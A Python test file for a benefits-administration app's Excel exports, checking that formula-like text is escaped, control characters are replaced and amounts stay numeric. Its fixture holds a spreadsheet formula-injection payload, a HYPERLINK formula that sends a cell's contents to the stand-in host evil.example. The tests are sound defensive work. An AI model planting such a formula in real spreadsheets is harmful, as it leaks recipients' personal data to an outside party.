"""Issue 13 item 7: the benefit exports (posting list through openpyxl, roster through the
streaming writer) write formula-like text as text and survive stored control characters;
amounts stay numbers."""

import datetime
import io
from decimal import Decimal
from types import SimpleNamespace

from openpyxl import load_workbook

from renkou.benefits import exports

HYPERLINK = '=HYPERLINK("http://evil.example/?"&D2,"点此")'


def _values(content: bytes, sheet: int = 0) -> list[tuple]:
    book = load_workbook(io.BytesIO(content))
    return list(book.worksheets[sheet].iter_rows(values_only=True))


def test_posting_list_is_safe():
    cycle = SimpleNamespace(
        programme=SimpleNamespace(name_zh="奖励扶助"), year=2026,
        posting_from=datetime.date(2026, 3, 1), posting_to=datetime.date(2026, 3, 7),
    )  # fmt: skip
    candidate = SimpleNamespace(
        unit=SimpleNamespace(name="东门\u000b社区"), kind="new", amount=Decimal("-1.5"),
        person=SimpleNamespace(name=HYPERLINK, sex="F", birth_date=datetime.date(1960, 1, 1)),
    )  # fmt: skip
    rows = _values(exports.posting_xlsx(cycle, [candidate]))
    assert rows[3][1:3] == ("东门\ufffd社区", "'" + HYPERLINK)
    assert rows[3][6] == -1.5


def test_roster_is_safe():
    line = (1, "-东门社区", HYPERLINK, "", "银行\u000b", "", Decimal("960"), Decimal("480"),
            Decimal("240"), Decimal("240"), False, 1)  # fmt: skip
    rows = _values(exports.lines_xlsx("名册 =1+1", [line]))
    assert rows[2][1:3] == ("'-东门社区", "'" + HYPERLINK)
    assert rows[2][4] == "银行\ufffd"
    assert rows[2][6] == 960
    summary = _values(exports.lines_xlsx("名册", [line]), sheet=1)
    assert summary[1][0] == "'-东门社区"
